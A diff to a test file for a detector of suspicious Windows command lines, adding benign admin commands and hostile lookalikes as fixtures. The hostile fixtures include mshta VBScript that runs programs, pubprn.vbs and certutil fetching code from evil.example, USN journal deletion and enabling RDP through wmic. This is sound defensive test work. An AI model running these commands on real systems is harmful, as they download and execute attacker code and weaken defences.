@@ -20,6 +20,10 @@ describe('what install guides, batch files and own tools do is no deviation by i
   test.each([
     `mshta.exe ¦ mshta vbscript:msgbox("Backup done",0,"Backup")(window.close) ¦ cmd.exe`,
     `mshta.exe ¦ mshta.exe vbscript:CreateObject("WScript.Shell").Popup("Restart at noon",60,"IT",64)(window.close) ¦ cmd.exe`,
+    `mshta.exe ¦ mshta.exe vbscript:Execute("MsgBox ""Maintenance at 6"",64,""IT"":close") ¦ cmd.exe`,
+    String.raw`cscript.exe ¦ cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs PRINT01 "LDAP://OU=Printers,DC=corp,DC=example" ¦ cmd.exe`,
+    String.raw`certutil.exe ¦ certutil -urlcache -f http://crl.authority.example/root/ca2.crl C:\temp\ca2.crl ¦ cmd.exe`,
+    String.raw`ftp.exe ¦ ftp -n -s:D:\erp\edi\carrier.ftp ¦ cmd.exe`,
     String.raw`fsutil.exe ¦ fsutil file createnew d:\dummy 104857600 ¦ cmd.exe`,
     String.raw`procdump.exe ¦ procdump -ma -e broker.exe D:\dumps ¦ cmd.exe`,
     'msconfig.exe ¦ msconfig.exe -4 ¦ explorer.exe',
@@ -42,6 +46,15 @@ describe('and what looks like it stays one', () => {
   test.each([
     `mshta.exe ¦ mshta vbscript:msgbox(CreateObject("WScript.Shell").Run("calc"))(window.close) ¦ cmd.exe`,
     `mshta.exe ¦ mshta vbscript:CreateObject("WScript.Shell").Popup(CreateObject("WScript.Shell").Run("calc"))(window.close) ¦ cmd.exe`,
+    `mshta.exe ¦ mshta.exe vbscript:Execute("MsgBox 1:CreateObject(""WScript.Shell"").Run ""calc"":close") ¦ cmd.exe`,
+    `mshta.exe ¦ mshta vbscript:msgbox("${'wait '.repeat(30)}")(CreateObject("WScript.Shell").Run("calc")) ¦ cmd.exe`,
+    `mshta.exe ¦ mshta.exe vbscript:Execute("MsgBox 1:" & Chr(65) & ":close") ¦ cmd.exe`,
+    String.raw`cscript.exe ¦ cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://evil.example/a.sct ¦ cmd.exe`,
+    String.raw`certutil.exe ¦ certutil -urlcache -f http://203.0.113.7/ca2.crl C:\temp\ca2.crl ¦ cmd.exe`,
+    String.raw`certutil.exe ¦ certutil -urlcache -f http://evil.example/ca2.crl C:\temp\ca2.dll ¦ cmd.exe`,
+    String.raw`msbuild.exe ¦ MSBuild.exe "C:\ProgramData\Microsoft\VisualStudio\restore.proj" /nologo ¦ ${TASK}`,
+    String.raw`ftp.exe ¦ ftp -s:D:\erp\edi\carrier.dll ¦ cmd.exe`,
+    'ftp.exe ¦ ftp -s:commands.txt ¦ cmd.exe',
     'msconfig.exe ¦ msconfig.exe -5 ¦ cmd.exe',
     String.raw`wscript.exe ¦ wscript.exe //B "C:\Users\ann\AppData\Roaming\hidden.vbs" ¦ ${TASK}`,
     String.raw`cscript.exe ¦ cscript //E:JScript C:\tools\notes.txt ¦ cmd.exe`,
@@ -67,6 +80,14 @@ test('a package by its proper name from a named server over TLS ranks behind one
   expect(named.bits).toBeLessThan(numbered.bits)
 })
 
+test('a class that rundll32 activates within itself ranks before one that COM serves', () => {
+  const [within, served] = ['-sta', '-localserver'].map(
+    (how) =>
+      scored(`rundll32.exe ¦ rundll32.exe ${how} {11111111-2222-3333-4444-555555555555} ¦ svchost.exe`).bits,
+  )
+  expect(within).toBeGreaterThan(served ?? Number.POSITIVE_INFINITY)
+})
+
 describe('what is planted shows where', () => {
   test.each([
     [String.raw`wmic.exe ¦ wmic os get caption ¦ locker.exe@C:\Users\Public\locker.exe`, 'planted-parent'],
@@ -74,6 +95,10 @@ describe('what is planted shows where', () => {
     [String.raw`cscript.exe ¦ cscript C:\PerfLogs\find.vbs ¦ cmd.exe`, 'idle-folder'],
     [String.raw`wscript.exe ¦ wscript.exe C:\Windows\System32\drivers\dri.vbs ¦ ${TASK}`, 'stray-script'],
     [String.raw`wscript.exe ¦ wscript.exe C:\ProgramData\e4f2\run.vbs ¦ ${TASK}`, 'random-folder'],
+    [
+      String.raw`regsvr32.exe ¦ regsvr32.exe C:\Windows\SysWOW64\Kdueh\wwsq.dll ¦ services.exe`,
+      'stray-folder',
+    ],
     ['fsutil.exe ¦ fsutil usn deletejournal /D C: ¦ cmd.exe', 'weakens-defence'],
     [
       `wmic.exe ¦ wmic path win32_terminalservicesetting where (__CLASS != "") call setallowtsconnections 1 ¦ cmd.exe`,
